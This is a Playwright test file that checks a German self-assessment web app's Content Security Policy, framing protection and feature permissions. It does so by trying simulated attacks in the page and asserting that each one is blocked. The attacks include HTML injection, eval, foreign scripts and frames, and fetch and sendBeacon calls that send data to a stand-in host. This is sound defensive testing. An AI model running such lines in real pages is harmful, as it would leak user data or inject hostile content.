/** The policy really holds: what an attacker would do in the page does not work. */
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { startServer } from '../tools/static-server.mjs';
import { expect, test } from './fixtures';
import { heading } from './steps/assessment';
import { waitUntilOfflineReady } from './steps/offline';

const DIST = process.env.PRAXISHILFE_DIST || fileURLToPath(new URL('../../dist', import.meta.url));

/** How the policy comes to the browser; each way must do alone. */
const WAYS: [name: string, change: (dir: string) => void][] = [
  [
    'by the header alone',
    (dir) => {
      const page = readFileSync(`${dir}/index.html`, 'utf8');
      writeFileSync(
        `${dir}/index.html`,
        page.replace(/<meta http-equiv="Content-Security[^>]*>/, ''),
      );
    },
  ],
  ['by the page alone', (dir) => rmSync(`${dir}/_headers`)],
];

/** Each tries something, in the page, and gives "done" when it could. */
const MISDEEDS: [name: string, blockedBy: string, attempt: () => unknown][] = [
  [
    'HTML from a string',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<p>taken over';
      return 'done';
    },
  ],
  [
    'code from a string',
    'require-trusted-types-for',
    () => {
      // biome-ignore lint/security/noGlobalEval: it must not work
      return globalThis.eval('"done"');
    },
  ],
  [
    'a script from elsewhere',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/x.js';
      return 'done';
    },
  ],
  [
    'a policy of one’s own',
    'trusted-types',
    () => {
      Reflect.get(window, 'trustedTypes').createPolicy('mine', {});
      return 'done';
    },
  ],
  [
    'a second worker',
    'require-trusted-types-for',
    () => {
      new Worker('other.js');
      return 'done';
    },
  ],
  [
    'another service worker',
    'require-trusted-types-for',
    () => navigator.serviceWorker.register('other.js').then(() => 'done'),
  ],
  [
    'sending entries away',
    'connect-src',
    () => fetch('https://elsewhere.example/', { method: 'POST', body: 'x' }).then(() => 'done'),
  ],
  [
    'sending entries away quietly',
    'connect-src',
    () => navigator.sendBeacon('https://elsewhere.example/', 'x') && 'blocked later',
  ],
  ['a picture from elsewhere', 'img-src', () => load('img', 'https://elsewhere.example/x.png')],
  ['a frame', 'frame-src', () => load('iframe', 'https://elsewhere.example/')],
  ['an object', 'require-trusted-types-for', () => load('embed', 'https://elsewhere.example/')],
  [
    'a style of one’s own',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'main { display: none }';
      document.head.append(style);
      return getComputedStyle(document.querySelector('main') as Element).display === 'none'
        ? 'done'
        : 'blocked';
    },
  ],
  [
    'a form to elsewhere',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base for all addresses',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
      return document.baseURI.startsWith('https://elsewhere') ? 'done' : 'blocked';
    },
  ],
];

declare function load(tag: string, src: string): void;

interface Outcome {
  said: string;
  violated: string[];
}

/** Tries it and waits until the browser has reported that it was blocked. */
async function attempt(page: Page, index: number): Promise<Outcome> {
  return page.evaluate(async (which) => {
    const violated: string[] = [];
    const reported = new Promise<void>((done) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        violated.push(effectiveDirective);
        done();
      });
    });
    // Not from here: what a driver of the browser evaluates may do more than the page.
    const said = new Promise<string>((done) => {
      setTimeout(() => {
        Promise.resolve()
          .then(() => window.testMisdeeds[which]?.())
          .then(String, (error: Error) => error.name)
          .then(done);
      });
    });
    await reported;
    return { said: await said, violated };
  }, index);
}

declare global {
  interface Window {
    testMisdeeds: (() => unknown)[];
  }
}

for (const [way, change] of WAYS) {
  test(`F64 ${way}: whatever an attacker tries in the page is blocked`, async ({ page }, info) => {
    const dir = info.outputPath('site');
    cpSync(DIST, dir, { recursive: true });
    change(dir);
    const server = await startServer({ dir, compress: false });
    await page.addInitScript(
      `window.load = (tag, src) => {
        const element = document.createElement(tag);
        element.src = src;
        document.body.append(element);
      };
      window.testMisdeeds = [${MISDEEDS.map(([, , code]) => code.toString()).join(',')}];`,
    );
    for (const [index, [name, directive]] of MISDEEDS.entries()) {
      await test.step(name, async () => {
        await page.goto(`${server.url}?${index}`);
        await expect(page.getByRole('link', { name: 'Neue Selbstbewertung' })).toBeVisible();
        const { said, violated } = await attempt(page, index);
        expect(violated, name).toContain(directive);
        expect(said, name).not.toBe('done');
      });
    }
    await server.close();
  });
}

test('F64 no other page may frame the app', async ({ app }, info) => {
  const frame = info.outputPath('frame');
  cpSync(DIST, frame, { recursive: true });
  writeFileSync(`${frame}/index.html`, `<!doctype html><iframe src="${app.url}"></iframe>`);
  rmSync(`${frame}/_headers`);
  const server = await startServer({ dir: frame });
  app.watch.allow(/another origin|frame|ERR_BLOCKED|favicon/);
  await app.page.goto(server.url);
  await expect
    .poll(() => app.watch.everything().join('\n'))
    .toMatch(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
  expect(await app.page.frames().at(-1)?.locator('#app').count()).toBe(0);
  await server.close();
});

test('F64 the page may use none of the features that the app does not need', async ({ app }) => {
  app.watch.allow(/Geolocation access has been blocked/);
  await app.open();
  const allowed = await app.page.evaluate(() => {
    const { featurePolicy } = document as unknown as {
      featurePolicy: { allowsFeature(name: string): boolean };
    };
    const names = ['geolocation', 'microphone', 'payment', 'usb', 'display-capture', 'camera'];
    return names.filter((name) => featurePolicy.allowsFeature(name));
  });
  expect(allowed).toEqual(['camera']);
  const blocked = await app.page.evaluate(
    () =>
      new Promise((done) => navigator.geolocation.getCurrentPosition(done, (e) => done(e.code))),
  );
  expect(blocked).toBe(1);
});

test('F64 the page keeps its policy when the service worker serves it', async ({ app }) => {
  await app.open();
  await waitUntilOfflineReady(app.page);
  await app.stop();
  const answer = await app.page.reload();
  expect(answer?.fromServiceWorker()).toBe(true);
  expect(answer?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  await app.page.getByRole('link', { name: 'Neue Selbstbewertung' }).click();
  await expect(heading(app.page, /./)).toBeVisible();
});
